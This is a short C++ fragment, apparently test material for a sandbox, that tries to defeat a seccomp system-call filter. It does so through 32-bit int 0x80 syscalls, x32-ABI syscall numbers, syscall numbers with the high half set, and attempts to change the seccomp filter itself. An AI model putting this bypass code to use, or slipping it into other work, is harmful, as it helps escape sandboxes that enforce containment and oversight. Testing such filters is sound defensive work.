// Gets around the filter of system calls: other tables, its own filter, high halves.
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
inline void attack(int function) {
  long result = 0;
  switch (function % 5) {
    case 0: asm volatile("int $0x80" : "=a"(result) : "a"(2) : "memory"); break;      // 32-bit fork
    case 1: asm volatile("syscall" : "=a"(result) : "a"(0x40000000UL + SYS_fork) : "rcx", "r11", "memory"); break;
    case 2: syscall(SYS_seccomp, 1, 8, nullptr); break;
    case 3: prctl(PR_SET_SECCOMP, 2, nullptr); break;
    default: asm volatile("syscall" : "=a"(result) : "a"((1UL << 32U) | SYS_getppid) : "rcx", "r11", "memory");
  }
  if (result == 0) _exit(0);
}
#define ATTACK(function) attack(function)
